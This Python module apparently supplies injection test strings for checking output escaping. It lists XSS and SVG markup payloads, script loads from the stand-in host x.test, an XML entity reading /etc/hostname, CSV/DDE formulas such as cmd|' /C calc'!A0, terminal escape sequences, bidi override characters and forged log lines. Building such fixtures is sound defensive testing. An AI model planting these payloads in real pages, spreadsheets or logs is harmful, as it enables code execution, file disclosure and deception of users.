"""Texts that would act where they are shown: as markup, as a formula, on a terminal, on the direction of a line.

Written here, after the families that the WHATWG HTML standard (script, event handlers, URLs), the CSV injection page of
OWASP, ECMA-48 (control functions) and Unicode Standard Annex 9 (directional characters) describe.
"""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.test/a.js></SCRIPT>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>-->alert(1)",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<base href=//x.test/>",
    "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<style>@import '//x.test/a.css';</style>",
    "<style>*{background:url(//x.test/a)}</style>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
]
TAGS = [
    "img src=x",
    "body",
    "svg",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "marquee",
    "iframe src=javascript:alert(1)",
    "object data=//x.test",
    "embed src=//x.test",
    "form action=//x.test",
    "button formaction=javascript:alert(1)",
    "a href=javascript:alert(1)",
    "math href=javascript:alert(1)",
    "table background=//x.test",
    "p style=position:fixed",
]
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover"]
MARKUP = [f"<{tag} {handler}=alert(1)>" for tag in TAGS for handler in HANDLERS[:3]]
MARKUP += [f'" {handler}="alert(1)' for handler in HANDLERS]
MARKUP += [f"' {handler}='alert(1)" for handler in HANDLERS]
MARKUP += [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;lt;b&amp;gt;",
    "<b>bold</b>",
    "a < b > c",
    "&",
]

DRAWINGS = [
    "<svg onload=alert(1)>",
    "</svg><svg onload=alert(1)>",
    "</text><script>alert(1)</script><text>",
    "<svg><script>alert(1)</script></svg>",
    "<foreignObject><body onload=alert(1)></foreignObject>",
    "<animate onbegin=alert(1) attributeName=x dur=1s>",
    "<set attributeName=onmouseover to=alert(1)>",
    "<use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<image href=//x.test/a.png>",
    "<a xlink:href=javascript:alert(1)><text>x</text></a>",
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>&x;',
    "<?xml-stylesheet href='//x.test/a.css'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</desc></g></svg>",
    "</title></svg><p>",
]

FORMULAS = [
    f"{sign}{body}"
    for sign in ("=", "+", "-", "@")
    for body in ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("//x.test","mist")', "IMPORTXML(A1)")
]
FORMULAS += [
    '"=1+1',
    "'=1+1",
    ";=1+1",
    "a;=1+1;b",
    "a,=1+1,b",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201",
]
FORMULAS += ["DDE(1)", "=1+1\u00a0", '","=1+1', '"";"=1+1"']

TERMINAL = [
    f"\x1b{tail}A"
    for tail in (
        "[2J",
        "[H",
        "[31m",
        "[8m",
        "]0;owned\x07",
        "]8;;//x.test\x07",
        "c",
        "P+q\x1b\\",
        "[?1049h",
        "[6n",
        "(0",
        "#8",
    )
]
TERMINAL += [f"\x9b{tail}" for tail in ("2J", "31m", "6n")]
TERMINAL += [
    f"mist{control}gone"
    for control in "\0\x01\x04\x05\x07\x08\x0b\x0c\x0e\x0f\x11\x13\x16\x18\x1a\x1c\x7f\x80\x85\x90\x9d\x9f"
]

DIRECTION = [f"mist{mark}drift" for mark in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]
DIRECTION += ["\u202e[ok] law", "level \u202e9\u202c", "\u2067right\u2069 left"]

FORGED = [
    f"nape{end}{line}"
    for end in ("\n", "\r", "\r\n", "\u2028", "\u2029", "\x0b", "\x85")
    for line in ("[ok]   law: all is well", "STOP: nothing", "error: none", "warning: none")
]

PAYLOADS: list[str] = list(dict.fromkeys([*SCRIPTS, *MARKUP, *DRAWINGS, *FORMULAS, *TERMINAL, *DIRECTION, *FORGED]))
